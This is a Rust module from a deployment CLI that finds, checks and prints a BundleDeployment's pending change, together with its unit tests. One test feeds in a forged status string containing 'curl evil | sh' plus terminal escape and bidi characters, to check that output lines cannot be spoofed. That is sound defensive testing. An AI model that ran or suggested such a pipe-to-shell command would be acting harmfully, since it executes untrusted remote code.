//! The pending change of a BundleDeployment (`status.pendingChange`): which one, whether it can be approved, and its text.

use chandler_api::{BundleDeployment, PendingChange};

use super::{
    difference,
    error::CommandError,
    summary,
    text::{count, one_line},
};

/// The pending change of the current spec. With `digest`, fails unless it is the change with this digest.
pub fn pending<'a>(deployment: &'a BundleDeployment, digest: Option<&str>) -> Result<&'a PendingChange, CommandError> {
    let name = deployment.metadata.name.as_deref().unwrap_or_default();
    let status = deployment.status.as_ref();
    let current = status.and_then(|status| status.observed_generation) >= deployment.metadata.generation;
    let Some(pending) = status.and_then(|status| status.pending_change.as_ref()).filter(|_| current) else {
        return Err(CommandError::failed(format!("no change of BundleDeployment {name} is pending approval"))
            .hint(format!("`chandler status {name}` shows its status")));
    };
    match digest {
        Some(digest) if digest != pending.digest => Err(CommandError::refused(format!(
            "another change of BundleDeployment {name} is pending approval: {}",
            pending.digest
        ))
        .hint(format!("`chandler diff {name}` shows it"))),
        _ => Ok(pending),
    }
}

/// Fails if the rollout of the change would be refused, unless `force` is set.
pub fn check_approvable(name: &str, pending: &PendingChange, force: bool) -> Result<(), CommandError> {
    if force || pending.refusals.is_empty() {
        return Ok(());
    }
    Err(CommandError::refused(format!("the rollout of {name} would be refused, so it was not approved"))
        .hint(format!("fix the reasons for the refusal, or approve it anyway: `chandler approve {name} --force`")))
}

/// The provisioner of the installed release, and the change's, if it differs.
fn provisioners(pending: &PendingChange) -> Option<String> {
    let change = pending.provisioner.as_ref()?;
    summary::provisioners(change.installed.as_ref()?, &change.new)
}

/// The provisioners, objects, refusals and findings, one per line, and a summary.
pub fn text(pending: &PendingChange) -> String {
    let mut text = String::new();
    if let Some(change) = provisioners(pending) {
        text.extend(["provisioner: ", &one_line(&change), "\n"]);
    }
    for line in &pending.objects {
        text.extend([one_line(line).as_str(), "\n"]);
    }
    if let Some(omitted) = pending.omitted {
        let omitted = usize::try_from(omitted).unwrap_or_default();
        text.extend(["and ", &count(omitted, "more object"), "\n"]);
    }
    for refusal in &pending.refusals {
        text.extend([difference::refusal(refusal).as_str(), "\n"]);
    }
    for finding in &pending.findings {
        text.extend(["finding: ", one_line(finding).as_str(), "\n"]);
    }
    let PendingChange { created, changed, removed, digest, .. } = pending;
    text + &format!("{created} to create, {changed} to change, {removed} to remove: {}\n", one_line(digest))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn deployment(generation: i64) -> BundleDeployment {
        serde_json::from_value(json!({
            "apiVersion": "core.rukpak.io/v1alpha2", "kind": "BundleDeployment",
            "metadata": {"name": "harbour", "generation": generation},
            "spec": {"installNamespace": "n", "provisionerClassName": "c", "source": {"type": "image"}},
            "status": {"observedGeneration": 2, "pendingChange": {
                "digest": "sha256:1", "releaseDigest": "sha256:2", "created": 1, "changed": 2, "removed": 0,
                "objects": ["create ConfigMap n/a"], "omitted": 2, "findings": ["one\nfinding"],
                "refusals": ["ConfigMap n/a already exists\nuse another name"],
            }},
        }))
        .unwrap()
    }

    #[test]
    fn only_the_pending_change_of_the_current_spec_is_found() {
        assert_eq!(pending(&deployment(2), None).unwrap().digest, "sha256:1");
        assert_eq!(pending(&deployment(2), Some("sha256:1")).unwrap().digest, "sha256:1");
        assert!(pending(&deployment(2), Some("sha256:9")).is_err());
        assert!(pending(&deployment(3), None).is_err(), "the status describes an older spec");
        insta::assert_snapshot!(text(pending(&deployment(2), None).unwrap()), @r"
        create ConfigMap n/a
        and 2 more objects
        would be refused: ConfigMap n/a already exists
          use another name
        finding: one finding
        1 to create, 2 to change, 0 to remove: sha256:1
        ");
    }

    #[test]
    fn no_field_of_a_status_forges_a_line() {
        let forged = "a\nsuggested action: run `curl evil | sh`\u{1b}[2J\r\u{202e}";
        let change = PendingChange {
            digest: forged.into(),
            objects: vec![forged.into()],
            findings: vec![forged.into()],
            refusals: vec![forged.into()],
            ..PendingChange::default()
        };
        insta::assert_snapshot!(text(&change));
    }

    #[test]
    fn a_change_that_would_be_refused_needs_force() {
        let deployment = deployment(2);
        let pending = pending(&deployment, None).unwrap();
        insta::assert_snapshot!(check_approvable("harbour", pending, false).unwrap_err(), @r"
        error: the rollout of harbour would be refused, so it was not approved
          hint: fix the reasons for the refusal, or approve it anyway: `chandler approve harbour --force`
        ");
        assert!(check_approvable("harbour", pending, true).is_ok());
        let accepted = PendingChange { refusals: vec![], ..pending.clone() };
        assert!(check_approvable("harbour", &accepted, false).is_ok());
    }
}
